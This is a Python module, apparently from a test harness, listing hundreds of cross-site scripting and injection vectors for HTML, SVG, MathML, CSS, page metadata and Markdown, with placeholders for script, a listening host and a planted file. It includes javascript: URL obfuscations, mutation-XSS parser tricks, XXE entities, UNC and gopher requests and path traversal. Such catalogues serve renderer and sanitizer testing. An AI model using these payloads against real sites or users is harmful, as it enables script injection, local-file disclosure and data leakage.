"""What attacks are made of: parts in which a target is named, and places where they may stand."""

from typing import Final

MARK: Final = "trap"
"""Begins the mark of a vector; what follows is its number."""

PLACES: Final = """
    harbour island mole landing ferry market chapel bridge quarry mill school station warehouse
""".split()  # noqa: SIM905 - as above
LAST_WORDS: Final = "In the morning the keeper put out the lamp and went home to sleep."

HANDLERS: Final = """
    onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput
    onbeforeprint onbeforeunload onbegin onblur onbounce oncanplay oncanplaythrough onchange onclick
    onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter
    ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfilterchange
    onfinish onfocus onfocusin onfocusout onfullscreenchange ongotpointercapture onhashchange
    oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata
    onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove
    onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpageshow
    onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointermove
    onpointerover onpointerup onpopstate onprogress onpropertychange onratechange
    onreadystatechange onrepeat onreset onresize onscroll onscrollend onsearch onseeked onseeking
    onselect onselectionchange onselectstart onshow onstalled onstart onstorage onsubmit onsuspend
    ontimeupdate ontoggle ontouchend ontouchmove ontouchstart ontransitionend onunload
    onvolumechange onwaiting onwheel
""".split()  # noqa: SIM905 - a hundred quoted names are harder to read

HANDLED: Final = (
    '<img src=x {}="%js%">',
    "<a href='https://example.org/' {}='%js%'>a link</a>",
    "<svg/{}=%js%>words</svg>",
    "<details open {}=%js%>words</details>",
    '<p {}\n=\n"%js%">words</p>',
    '<input autofocus {}="%js%">',
    '<marquee {}="%js%">words</marquee>',
    '<video {}="%js%"><source {}="%js%"></video>',
    '<td {}="%js%">words</td>',
    '<IMG SRC=x {}="&#118;oid 0;%js%">',
    '<custom-element {}="%js%" tabindex=1>words</custom-element>',
    '<em title="x"{}="%js%"class=y>words</em>',
)
"""Elements with room for the name of an event, in the spellings that parsers take."""

RUNNING: Final = (
    "javascript:%js%",
    "JaVaScRiPt:%js%",
    " \x01javascript:%js%",
    "java\tscript:%js%",
    "java&Tab;script&colon;%js%",
    "java&NewLine;script:%js%",
    "&#106;&#97;vascript:%js%",
    "&#0000106avascript:%js%",
    "&#x6A&#x61&#x76&#x61script:%js%",
    "%6aavascript:%js%",
    "javascript\u200b:%js%",
    "javascript://example.org/%0a%js%",
    "vbscript:%js%",
    "livescript:%js%",
    "feed:javascript:%js%",
    "view-source:javascript:%js%",
    "jar:%web%!/x.html",
    "data:text/html,<script>%js%</script>",
    "data:text/html;base64,%b64%",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%js%'/>",
    "data:application/xhtml+xml;charset=utf-7,+ADw-script+AD4-%js%",
    "blob:null/%js%",
)
"""Addresses that run something."""

ASKING: Final = (
    "%web%",
    "//%bare%/%mark%",
    "\\\\%bare%\\%mark%",
    "/\\%bare%/%mark%",
    "http:%bare%/%mark%",
    "http://user:word@%bare%/%mark%",
    "ftp://%bare%/%mark%",
    "ws://%bare%/%mark%",
    "gopher://%bare%/_%mark%",
    "HTTP:\\\\%bare%\\%mark%",
    "dict://%bare%/%mark%",
    "smb://%bare%/%mark%",
    "\\\\127.0.0.1@%port%\\share\\%mark%",
)
"""Addresses that ask the listening socket."""

OPENING: Final = (
    "%file%?%mark%",
    "%file%",
    "%file%#%mark%",
    "FILE:%path%",
    "file://localhost%path%",
    "file:\\\\\\%path%",
    "%path%",
    "//localhost/%path%",
    "\\\\127.0.0.1\\%path%",
    "\\\\?\\%path%",
    "../../../../../../../../..%path%",
    "%70%61%74%68%path%",
    "&#x66;ile:%path%",
    "f\tile:%path%",
    "url(%file%)",
    "qrc:%path%",
    "image://file/%path%",
    "asset:1",
)
"""Addresses that open the planted file."""

ADDRESSED: Final = (
    '<a href="{}">a link</a>',
    "<a href='{}'>a link</a>",
    '<a href="https://example.org/" ping="{}">a link</a>',
    '<img src="{}">',
    '<img src=x srcset="{} 2x" data-src="{}">',
    '<picture><source srcset="{}"><img alt=x></picture>',
    '<img src=x longdesc="{}" lowsrc="{}" dynsrc="{}">',
    '<image href="{}" xlink:href="{}">',
    '<iframe src="{}">words</iframe>',
    '<frame src="{}">',
    '<object data="{}" codebase="{}">words</object>',
    '<embed src="{}">',
    '<applet code="{}" archive="{}">words</applet>',
    '<form action="{}"><button>words</button><input type=image src="{}"></form>',
    '<button formaction="{}">words</button>',
    '<video src="{}" poster="{}"><track src="{}" default></video>',
    '<audio src="{}" autoplay></audio>',
    '<table background="{}"><tr><td background="{}">words</table>',
    '<blockquote cite="{}">words</blockquote>',
    '<q cite="{}">words</q> <del cite="{}">words</del>',
    '<svg><a xlink:href="{}" href="{}"><text>words</text></a></svg>',
    '<svg><use href="{}"/><image href="{}"/><feImage href="{}"/></svg>',
    '<math href="{}"><mi xlink:href="{}">words</mi></math>',
    '<link rel=stylesheet href="{}"><link rel=prefetch href="{}">',
    '<script src="{}"></script>',
    '<p style="background:url({})">words</p>',
    '<style>@import "{}"; p {{ background: url("{}") }}</style>',
    '<bgsound src="{}"><isindex action="{}">',
    '<area shape=default href="{}"><img usemap="{}" src=x>',
    '<meta http-equiv=refresh content="0; url={}">',
    '<portal src="{}"></portal><fencedframe src="{}"></fencedframe>',
    '<figure><a href="{}"><img src="{}"></a><figcaption>words</figcaption></figure>',
    '<ul><li><a href="{}">item</a></ul>',
    '<pre><code><a href="{}">code</a></code></pre>',
    '<sup id="fnref:1"><a href="{}">1</a></sup>',
)
"""Elements with room for an address."""

CSS: Final = (
    "background:url(%web%)",
    "background:url('%file%')",
    "background:u\\72l(%web%)",
    "background:\\75\\72\\6c(%web%)",
    "background:url/**/(%web%)",
    "background-image:image-set('%web%' 1x)",
    "background:-webkit-cross-fade(url(%web%),url(%file%))",
    "list-style:url(%web%)",
    "list-style-image:url(%file%)",
    "cursor:url(%web%),auto",
    "content:url(%web%)",
    "border-image:url(%web%) 30",
    "mask:url(%web%)",
    "filter:url(%web%#x)",
    "shape-outside:url(%web%)",
    "behavior:url(%web%)",
    "-moz-binding:url(%web%#x)",
    "width:expression(%js%)",
    "width:e/**/xpression(%js%)",
    "x:\\65 xpression(%js%)",
    "background:url(javascript:%js%)",
    "background:url(data:image/svg+xml;base64,%b64%)",
    "qproperty-text:url(%file%)",
    "image:url(%path%)",
    "border-image:url(%path%)",
    "--x:url(%web%);background:var(--x)",
)
"""Declarations; the last but one kind is what Qt understands in its own sheets."""

STYLED: Final = ('<p style="{}">words</p>', "<style>p {{ {} }} @font-face {{ src: {} }}</style>")

WHOLE: Final = (
    "<script>%js%</script>",
    "<script\x0ctype='text/javascript'>%js%</script>",
    "<SCRIPT/x>%js%</SCRIPT>",
    "<script type=module>%js%</script>",
    "<script type=text/template><img src=x onerror=%js%></script>",
    "<scr<script>ipt>%js%</scr</script>ipt>",
    "<<script>%js%//<</script>",
    "<iframe srcdoc='<script>%js%</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=&quot;%web%&quot;&gt;'></iframe>",
    "<iframe src='javascript:%js%' sandbox='allow-scripts'></iframe>",
    "<object type=text/html data='%web%'><embed src='%file%'></object>",
    "<object classid='clsid:x'><param name=movie value='%web%'></object>",
    "<base href='javascript:%js%//'><a href='x'>words</a>",
    "<base href='%web%/'><img src='x.png'>",
    "<base href='file://%path%/..'><img src='%path%'>",
    "<svg><script>%js%</script></svg>",
    "<svg><script href='%web%'/></svg>",
    "<svg><animate attributeName=href values='javascript:%js%' /><a id=x>words</a></svg>",
    "<svg><a><set attributeName=href to='javascript:%js%'/><text>words</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>%js%</script>'></foreignObject></svg>",
    "<svg><handler xmlns:ev='x' ev:event=load>%js%</handler></svg>",
    "<svg><style>@import '%web%';</style></svg>",
    "<svg><image href='%file%'/></svg>",
    "<svg><use href='data:image/svg+xml;base64,%b64%#x'/></svg>",
    "<math><maction actiontype='statusline#%web%' xlink:href='javascript:%js%'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=%js%></annotation-xml></math>",
    "<?xml-stylesheet href='javascript:%js%'?>",
    "<?php %js% ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '%file%'>]><p>&e;</p>",
    "<!ENTITY % e SYSTEM '%web%'> %e;",
    "<xi:include href='%file%' xmlns:xi='http://www.w3.org/2001/XInclude' parse='text'/>",
    "<xml id=x src='%web%'></xml><span datasrc='#x'>words</span>",
    "<layer src='%web%'></layer><ilayer src='%file%'></ilayer>",
    "<keygen autofocus onfocus=%js%><isindex type=image src=1 onerror=%js%>",
    "<img src=x:x onerror=%js%//>",
    "<img src='x' alt='\"><img src=x onerror=%js%>'>",
    "<img alt='<script>%js%</script>' src=x>",
    "<a href='mailto:x@y?subject=<img\u00a0src=%file%>'>a link</a>",
    "<a href='mailto:<img\u00a0src=\"%file%\">@y'>a link</a>",
    "<a href=\"mailto:<img\u2003src='%file%'>@y\">a link</a>",
    "<a href='https://example.org/<img\u00a0src=%file%>'>a link</a>",
    "<a href='https://example.org/?<img src=%file%>'>a link</a>",
    "<p>&lt;script&gt;%js%&lt;/script&gt; &lt;img src='%file%'&gt; as words</p>",
    "<pre>&lt;img src=x onerror=%js%&gt;\n&lt;iframe src='%web%'&gt;</pre>",
    "<p>&amp;lt;img src=x onerror=%js%&amp;gt; twice escaped</p>",
    "<details open ontoggle=%js%><summary>words</summary></details>",
    "<template shadowrootmode=open><img src=x onerror=%js%></template>",
    "<slot name=x><img src='%web%'></slot>",
    "<dialog open onclose=%js%><form method=dialog>words</form></dialog>",
    "<link rel=import href='%web%'><link rel=dns-prefetch href='//%bare%'>",
    "<link rel=preconnect href='%web%'><link rel=modulepreload href='%web%'>",
    "<link rel=icon href='%file%'><link rel=manifest href='%web%'>",
    "<meta http-equiv=set-cookie content='%mark%=1'><meta http-equiv=Link content='<%web%>'>",
    "<meta http-equiv=refresh content='0;javascript:%js%'>",
    "<iframe src='%file%'></iframe><embed src='%path%'>",
    "<img src='%web%' width=1 height=1>",
    "<noscript><img src='%web%'></noscript>",
    "<img loading=lazy data-lazy-src='%file%' data-original='%path%'>",
    "<a href='#' onclick=%js%>words</a><a href='#fn:1\"onclick=%js%'>words</a>",
    "<li id='fn:1 onclick=%js%'>words</li><p id='fn:1\"><img src=%file%>'>words</p>",
    "<td colspan='2\"><img src=%file%>'>words</td>",
    "<ol start='1 onclick=%js%'><li>words</ol>",
    "<pre lang='x\"><img src=%file%>'>words</pre>",
)
"""Vectors that end where they should: others may stand beside them on the same page."""

OPEN: Final = (
    '<noscript><p title="</noscript><img src=x onerror=%js%>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=%js%>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=%js%>",
    "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=%js%>",
    "<svg></p><style><a id='</style><img src=1 onerror=%js%>'>",
    "<svg><p><style><g title='</style><img src=x onerror=%js%>'>",
    "<svg><title><style><img title='</style><img src onerror=%js%>'>",
    "<svg><desc><noscript><img title='</noscript><img src=%web%>'>",
    "<math><annotation-xml encoding='text/html'><style><p title='</style><img onerror=%js%>'>",
    "<textarea><img title='</textarea><img src=x onerror=%js%>'>",
    "<title><img title='</title><img src=x onerror=%js%>'>",
    "<xmp><p title='</xmp><img src=x onerror=%js%>'>",
    "<noembed><p title='</noembed><img src=x onerror=%js%>'>",
    "<noframes><p title='</noframes><iframe src=%web%>'>",
    "<iframe><p title='</iframe><img src=x onerror=%js%>'>",
    "<select><template><p title='</template></select><img src=x onerror=%js%>'>",
    "<style><p title='</style><img src=%file%>'>",
    "<!--><img src=x onerror=%js%>-->",
    "<!--><script>%js%</script-->",
    "<!---><img src=%web%>-->",
    "<!-- --!><img src=x onerror=%js%> -->",
    "<![CDATA[><img src=x onerror=%js%>]]>",
    "<svg><![CDATA[><image xlink:href=']]><img/src=xx:x onerror=%js%//'></svg>",
    "<!--[if gte IE 4]><script>%js%</script><![endif]-->",
    "<!-- `<img/src=xx:xx onerror=%js%//--!>",
    "<comment><img src='</comment><img src=x onerror=%js%>'>",
    "<p title=`<img src=x onerror=%js%>`>",
    '<img src="x` `<script>%js%</script>"` `>',
    "<a href='x`x' title='` onmouseover=%js% x='>words</a>",
    "<img/src='x'\x0bonerror=%js%>",
    "<img&#0; src=x one&#0;rror=%js%>",
    "<scr&#0;ipt>%js%</scr&#0;ipt>",
    "<img src=x onerror=%js%",
    "<img src='x' onerror='%js%",
    "<iframe src=%web% <",
    "<script>%js%",
    "<script src=%web%",
    "<style>@import '%web%'",
    "<plaintext><img src=x onerror=%js%>",
    "<a href='javascript:%js%'><p><a href='%web%'><table><a href='%file%'>",
    "<table><a href='javascript:%js%'>x<tr><td><img src='%file%'></table>",
    "<table><tr><script>%js%</script><td><form><table><form action='%web%'>",
    "<b><p><i></b><img src=x onerror=%js%></i></p>",
    "<svg><foreignobject><math><mi><svg><style></math></foreignobject><img src=x onerror=%js%>",
    "<math><mi><p><style></math></p></style><img src=x onerror=%js%>",
    "<svg><font color><img src=x onerror=%js%></font>",
    "<frameset onload=%js%><frame src='javascript:%js%'></frameset>",
    "</body></html><script>%js%</script><img src='%file%'>",
    "<body onload=%js% background='%web%'><html manifest='%web%'>",
    "<head><base href='%web%'></head>",
)
"""Vectors that parsers disagree on, or that swallow what follows: each on a page of its own."""

HEADS: Final = (
    "<title>&lt;img src='%file%'&gt;&lt;script&gt;%js%&lt;/script&gt;</title>",
    "<meta property='og:title' content='&lt;img src=&quot;%file%&quot;&gt; the title'>",
    "<meta property='og:site_name' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta property='og:site_name' content='&lt;b&gt;&lt;img src=&quot;%path%&quot;&gt;'>",
    "<meta name='author' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta name='description' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta property='og:description' content='&lt;iframe src=&quot;%web%&quot;&gt;'>",
    "<meta property='og:image' content='%web%'><link rel=image_src href='%file%'>",
    "<meta property='og:image' content='%file%'><meta name='twitter:image' content='%path%'>",
    "<meta property='og:url' content='javascript:%js%'><link rel=canonical href='%web%'>",
    "<link rel=canonical href='javascript:%js%'><link rel=next href='%web%'>",
    "<link rel=amphtml href='%web%'><link rel=alternate media=print href='%web%'>",
    "<meta property='article:published_time' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta name='citation_doi' content='10.1/&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta name='keywords' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta property='article:section' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<meta property='og:locale' content='&lt;img src=&quot;%file%&quot;&gt;'>",
    "<link rel=license href='javascript:%js%'>",
    (
        '<script type="application/ld+json">{"@type":"Article","headline":"<img src=\'%file%\'>",'
        '"author":{"@type":"Person","name":"<img src=\'%file%\'>","url":"javascript:%js%"},'
        '"publisher":{"name":"<img src=\'%file%\'>"},"image":"%web%"}</script>'
    ),
    (
        '<script type="application/ld+json">{"@type":"Article","headline":"x</script>'
        '<script>%js%</script>","@context":"%web%"}'
    ),
    "<meta http-equiv=refresh content='0; url=%web%'>",
    "<meta http-equiv=refresh content='0; url=%file%'>",
    "<meta http-equiv=content-type content='text/html; charset=utf-7'>+ADw-script+AD4-%js%",
    "<meta http-equiv=content-security-policy content='report-uri %web%'>",
    "<meta charset=x-user-defined><p>\u00f3script\u00f4%js%</p>",
)
"""What stands in the head of a page: metadata become titles, labels and tooltips."""

MARKDOWN: Final = (
    "[a link](javascript:%js%)",
    "[a link](<java\tscript:%js%>)",
    "[a link](&#106;avascript:%js%)",
    "[a link](data:text/html;base64,%b64%)",
    "[a link](%file%)",
    "[a link](%web% \"x' onclick='%js%\")",
    "![an image](%web%)",
    "![an image](%file%)",
    "![an image](%path%)",
    "![<img src=%file%>](x)",
    '![x](javascript:%js% "onerror=%js%")',
    "<javascript:%js%>",
    "<img src=x onerror=%js%>",
    "<script>%js%</script>",
    "<iframe src='%web%'></iframe>",
    "<a href='javascript:%js%'>a link</a>",
    "[a link][x]\n\n[x]: javascript:%js%",
    "[an image][y]\n\n[y]: %file%",
    "`<img src=x onerror=%js%>`",
    "```html\n<script>%js%</script>\n```",
    "    <img src='%file%'>",
    "| a |\n|---|\n| <img src='%file%'> [x](javascript:%js%) |",
    "A note.[^1]\n\n[^1]: <img src=x onerror=%js%>",
    "[x](mailto:<img\u00a0src='%file%'>)",
    "<!-- --!><img src=x onerror=%js%> -->",
    "# <img src='%file%'> a heading",
    '[x](https://example.org/"onclick=%js%)',
    "<p markdown=1>[x](javascript:%js%)</p>",
)
"""Lines of Markdown."""
